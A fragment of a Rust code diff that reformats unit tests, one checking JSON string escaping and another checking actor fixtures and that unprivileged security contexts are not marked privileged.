-        for s in ["plain", "quote \" and \\ backslash", "tab\tnew\nline\r", "\u{1}\u{1f}", "é ☃ 😀"] {
+        for s in [
+            "plain",
+            "quote \" and \\ backslash",
+            "tab\tnew\nline\r",
+            "\u{1}\u{1f}",
+            "é ☃ 😀",
+        ] {
             let mut text = String::new();
             push_json_string(&mut text, s);
             assert_eq!(serde_json::from_str::<String>(&text).unwrap(), s);
@@ -2803,12 +3061,22 @@ mod tests {
             for name in actor.reads {
                 resource_index(name);
             }
-            assert_eq!(actor.role == Role::Human, !actor.clients.is_empty(), "{}", actor.username);
+            assert_eq!(
+                actor.role == Role::Human,
+                !actor.clients.is_empty(),
+                "{}",
+                actor.username
+            );
             if !actor.extra.is_empty() {
-                assert!(serde_json::from_str::<Value>(actor.extra).unwrap().is_object());
+                assert!(serde_json::from_str::<Value>(actor.extra)
+                    .unwrap()
+                    .is_object());
             }
         }
-        for context in UNPRIVILEGED_SECURITY_CONTEXTS.iter().filter(|c| !c.is_empty()) {
+        for context in UNPRIVILEGED_SECURITY_CONTEXTS
+            .iter()
+            .filter(|c| !c.is_empty())
+        {
             let value: Value = serde_json::from_str(context).unwrap();
             assert!(!equals(&value["privileged"], "true"));
         }
